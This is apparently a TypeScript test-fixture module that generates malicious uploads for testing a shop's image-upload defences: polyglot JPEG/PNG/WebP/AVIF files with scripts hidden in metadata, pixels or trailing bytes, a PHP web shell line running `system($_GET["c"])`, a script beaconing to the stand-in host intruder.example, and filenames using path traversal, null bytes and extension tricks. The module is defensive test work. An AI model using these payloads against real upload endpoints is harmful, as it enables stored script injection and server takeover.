import zlib from 'node:zlib';

/** A malicious upload. */
export interface HostileFile {
  readonly what: string;
  readonly content: Buffer;
  readonly filename: string;
  readonly type: string;
}

/** The address that each script requests when it runs. */
export const INTRUDER = 'http://intruder.example/ran';
/** A marker in every file. No response of the shop may contain it. */
export const MARK = 'INTRUDER-7f3a';

const CODE = `/*${MARK}*/self.intruder=1;try{top.intruder=1}catch(e){};try{parent.intruder=1}catch(e){};new Image().src="${INTRUDER}";fetch("${INTRUDER}")`;
const SCRIPT = `<script>${CODE}</script>`;
const PAGE = `<!doctype html><html><body>${SCRIPT}<img src=x onerror='${CODE}'></body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload='${CODE}'>${SCRIPT}</svg>`;
const PHP = `<?php /*${MARK}*/ system($_GET["c"]); ?>`;

const text = (value: string): Buffer => Buffer.from(value, 'latin1');
const behind = (picture: Buffer, ...more: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat([picture, ...more.map((part) => (typeof part === 'string' ? text(part) : part))]);

/** Returns a JPEG with a segment directly after its first two bytes. */
function jpegWith(marker: number, content: string | Buffer): Buffer {
  const body = typeof content === 'string' ? text(content) : content;
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([JPEG.subarray(0, 2), head, body, JPEG.subarray(2)]);
}

/**
 * Returns a JPEG that is also a valid Latin-1 script: its first bytes are an identifier, the rest of the image is in
 * comments.
 */
function jpegThatIsAScript(): Buffer {
  const head = Buffer.alloc(0x2f2a + 2);
  head.set([0xff, 0xe0, 0x2f, 0x2a]);
  head.write('JFIF\0\x01\x01', 4, 'latin1');
  const comment = text(`*/=1;${CODE};/*`);
  const length = Buffer.from([0xff, 0xfe, 0, 0]);
  length.writeUInt16BE(comment.length + 2, 2);
  return Buffer.concat([JPEG.subarray(0, 2), head, length, comment, JPEG.subarray(2), text('*/')]);
}

function chunk(type: string, content: string | Buffer): Buffer {
  const body = Buffer.concat([text(type), typeof content === 'string' ? text(content) : content]);
  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(body.length - 4);
  checksum.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([length, body, checksum]);
}

const PNG_START = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** Returns a 64 × 64 PNG with extra chunks before its pixels. @param row bytes of each line of pixels */
function pngWith(more: readonly Buffer[] = [], row: Buffer = Buffer.alloc(64 * 3, 0x88)): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(64, 0);
  head.writeUInt32BE(64, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const pixels = zlib.deflateSync(
    Buffer.concat(Array.from({ length: 64 }, () => Buffer.concat([Buffer.from([0]), row]))),
    { level: 0 },
  );
  return Buffer.concat([PNG_START, chunk('IHDR', head), ...more, chunk('IDAT', pixels), chunk('IEND', '')]);
}

/** Returns a WebP with an extra chunk at its end, included in its length. */
function webpWith(type: string, content: string): Buffer {
  const body = text(content.length % 2 ? `${content} ` : content);
  const head = Buffer.concat([text(type), Buffer.alloc(4)]);
  head.writeUInt32LE(body.length, 4);
  const whole = Buffer.concat([WEBP, head, body]);
  whole.writeUInt32LE(whole.length - 8, 4);
  return whole;
}

function avifWith(content: string): Buffer {
  const body = text(content);
  const head = Buffer.concat([Buffer.alloc(4), text('free')]);
  head.writeUInt32BE(body.length + 8);
  return Buffer.concat([AVIF, head, body]);
}

/** A grey 64 × 64 square in each format. Small, because the shop re-encodes every image in many widths. */
const square = (base64: string): Buffer => Buffer.from(base64, 'base64');
const JPEG = square(
  '/9j/2wBDABsSFBcUERsXFhceHBsgKEIrKCUlKFE6PTBCYFVlZF9VXVtqeJmBanGQc1tdhbWGkJ6jq62rZ4C8ybqmx5moq6T/2wBDARweHigjKE4rK06kbl1upKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKT/wAARCABAAEADASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAL/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFAEBAAAAAAAAAAAAAAAAAAAAAP/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhEDEQA/AKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAB//2Q==',
);
const WEBP = square('UklGRjgAAABXRUJQVlA4ICwAAACQAwCdASpAAEAAPxGIv1gsKScjoggBgCIJaQAAEDdTUAV4hbkAAPtrawAAAA==');
const AVIF = square(
  'AAAAHGZ0eXBhdmlmAAAAAG1pZjFhdmlmbWlhZgAAANZtZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAAACJpbG9jAAAAAERAAAEAAQAAAAAA+gABAAAAAAAAAB0AAAAjaWluZgAAAAAAAQAAABVpbmZlAgAAAAABAABhdjAxAAAAAA5waXRtAAAAAAABAAAAVmlwcnAAAAA4aXBjbwAAAAxhdjFDgSACAAAAABRpc3BlAAAAAAAAAEAAAABAAAAAEHBpeGkAAAAAAwgICAAAABZpcG1hAAAAAAAAAAEAAQOBAgMAAAAlbWRhdBIACgk4FX/9pAQ0GkAyDhxCYuTgABYAAJe/PYlk',
);
const PNG = pngWith();

/** Valid images with embedded scripts. The shop accepts them and must remove the embedded content. */
const LOADED: Record<string, Buffer> = {
  'JPEG with a page behind it': behind(JPEG, PAGE),
  'JPEG with an SVG behind it': behind(JPEG, SVG),
  'JPEG with PHP behind it': behind(JPEG, PHP),
  'JPEG with a ZIP behind it': behind(JPEG, `PK\x03\x04${MARK}`),
  'JPEG with a PDF behind it': behind(JPEG, `%PDF-1.7 ${MARK} /JS (${CODE})`),
  'JPEG with a page in UTF-16 behind it': behind(JPEG, Buffer.from(`\ufeff${PAGE}`, 'utf16le')),
  'JPEG with a megabyte of scripts behind it': behind(JPEG, SCRIPT.repeat(3000)),
  'JPEG with another JPEG behind it': behind(JPEG, jpegWith(0xfe, SCRIPT)),
  'JPEG with a script as its comment': jpegWith(0xfe, SCRIPT),
  'JPEG with a page as its comment': jpegWith(0xfe, PAGE),
  'JPEG with a script in its Exif': jpegWith(0xe1, `Exif\0\0MM\0*\0\0\0\x08\0\0${SCRIPT}`),
  'JPEG with a script in its XMP': jpegWith(0xe1, `http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${SCRIPT}</x:xmpmeta>`),
  'JPEG with a script in its colours': jpegWith(0xe2, `ICC_PROFILE\0\x01\x01${SCRIPT}`),
  'JPEG with a script in a segment of nobody': jpegWith(0xe9, PAGE),
  'JPEG with a script in its Photoshop part': jpegWith(0xed, `Photoshop 3.0\0${PHP}${SCRIPT}`),
  'JPEG that is a script': jpegThatIsAScript(),
  'PNG with a page behind it': behind(PNG, PAGE),
  'PNG with a chunk behind its end': behind(PNG, chunk('tEXt', `x\0${SCRIPT}`)),
  'PNG with a script in a text': pngWith([chunk('tEXt', `Comment\0${SCRIPT}`)]),
  'PNG with a packed script in a text': pngWith([
    chunk('zTXt', Buffer.concat([text('Comment\0\0'), zlib.deflateSync(text(PAGE))])),
  ]),
  'PNG with an SVG in a text': pngWith([chunk('iTXt', `XML:com.adobe.xmp\0\0\0\0\0${SVG}`)]),
  'PNG with a script in its Exif': pngWith([chunk('eXIf', `MM\0*\0\0\0\x08\0\0${SCRIPT}`)]),
  'PNG with a script in a chunk of nobody': pngWith([chunk('scRp', PAGE)]),
  'PNG with a script in its pixels': pngWith([], text(SCRIPT.slice(0, 192).padEnd(192))),
  'PNG with PHP in its pixels': pngWith([], text(PHP.padEnd(192))),
  'WebP with a page behind it': behind(WEBP, PAGE),
  'WebP with a script in its Exif': webpWith('EXIF', SCRIPT),
  'WebP with a script in its XMP': webpWith('XMP ', SCRIPT),
  'WebP with a script in a chunk of nobody': webpWith('SCRP', PAGE),
  'AVIF with a page in a free box': avifWith(PAGE),
  'AVIF with a page behind it': behind(AVIF, PAGE),
};

/** Unsupported or corrupt files, rejected under any name. */
const NONE: Record<string, Buffer> = {
  page: text(PAGE),
  'page behind a BOM': text(`\xef\xbb\xbf${PAGE}`),
  'page in UTF-16': Buffer.from(`\ufeff${PAGE}`, 'utf16le'),
  'page behind spaces': text(`\n\n\t ${PAGE}`),
  script: text(CODE),
  module: text(`export default 1;${CODE}`),
  worker: text(`onfetch=()=>0;${CODE}`),
  'style sheet': text(`/*${MARK}*/ @import "${INTRUDER}"; body{background:url(${INTRUDER})}`),
  SVG: text(SVG),
  'SVG behind a declaration': text(`<?xml version="1.0"?>${SVG}`),
  'SVG behind a comment': text(`<!--${'x'.repeat(300)}-->${SVG}`),
  'SVG that brings a page': text(
    `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>${PAGE}</foreignObject></svg>`,
  ),
  'packed SVG': zlib.gzipSync(SVG),
  'XML with a style of its own': text(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><a/>`),
  XHTML: text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`),
  MHTML: text(`MIME-Version: 1.0\nContent-Type: multipart/related\n\n${PAGE}`),
  'GIF that is a script': text(`GIF89a/*\x01\x00\x01\x00*/=1;${CODE}`),
  'GIF with a page': text(`GIF87a\x01\x00\x01\x00${PAGE}`),
  'BMP that is a script': text(`BM/*\x00\x00*/=1;${CODE}`),
  'icon with a page': behind(Buffer.from([0, 0, 1, 0]), PAGE),
  'TIFF with a page': text(`II*\0${PAGE}`),
  'PDF that runs': text(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(${CODE})>>>>`),
  Flash: text(`CWS\x0a${MARK}`),
  'WAV that is a script': text(`RIFF=1;${CODE}//WAVE`),
  'WebP that is only called so': text(`RIFF=1;/*WEBP*/${CODE}`),
  'JPEG that ends after three bytes': behind(Buffer.from([0xff, 0xd8, 0xff]), SCRIPT),
  'PNG that ends after its first bytes': behind(PNG_START, PAGE),
  'PNG of 60,000 by 60,000': Buffer.concat([
    PNG_START,
    chunk('IHDR', Buffer.from([0, 0, 0xea, 0x60, 0, 0, 0xea, 0x60, 8, 2, 0, 0, 0])),
    chunk('IDAT', PAGE),
  ]),
  'half a JPEG': JPEG.subarray(0, JPEG.length / 2),
  'half a PNG': behind(PNG.subarray(0, 900), PAGE),
  'JPEG without image data': behind(JPEG.subarray(0, 2), text(PAGE), Buffer.from([0xff, 0xd9])),
  'shell script': text(`#!/bin/sh\n# ${MARK}`),
  PHP: text(PHP),
  'settings of a server': text(`AddType text/html .jpg # ${MARK}`),
  'nothing but zeros': Buffer.alloc(4096),
};

/** File names and content types as a client sends them. */
const NAMES = [
  ['almonds.jpg', 'image/jpeg'],
  ['almonds.html', 'text/html'],
  ['almonds.php.jpg', 'image/jpeg'],
  ['almonds.jpg.html', 'image/png'],
  ['almonds.svg', 'image/svg+xml'],
  ['almonds.js', 'text/javascript'],
  ['../../index.html', 'image/jpeg'],
  ['..\\..\\shop.js', 'image/webp'],
  ['almonds.html\u0000.jpg', 'image/jpeg'],
  ['.htaccess', 'text/plain'],
  ['almonds.jpg;.html', 'text/html'],
  ['almonds\u202egpj.html', 'text/html'],
  ['CON.jpg', 'image/jpeg'],
  [`${'a'.repeat(300)}.html`, 'text/html'],
  ['%2e%2e%2findex.html', 'application/xhtml+xml'],
  [' ', 'text/html'],
] as const;

const named = (files: Record<string, Buffer>): HostileFile[] =>
  Object.entries(files).map(([what, content], place) => {
    const [filename, type] = NAMES[place % NAMES.length] as (typeof NAMES)[number];
    return { what: `${what}, called ${JSON.stringify(filename.slice(0, 30))}`, content, filename, type };
  });

export const LOADED_FILES = named(LOADED);
export const REFUSED_FILES = named(NONE);
export const SCRIPT_IN_A_JPEG = LOADED['JPEG that is a script'] as Buffer;
export const PAGE_BEHIND_A_JPEG = LOADED['JPEG with a page behind it'] as Buffer;
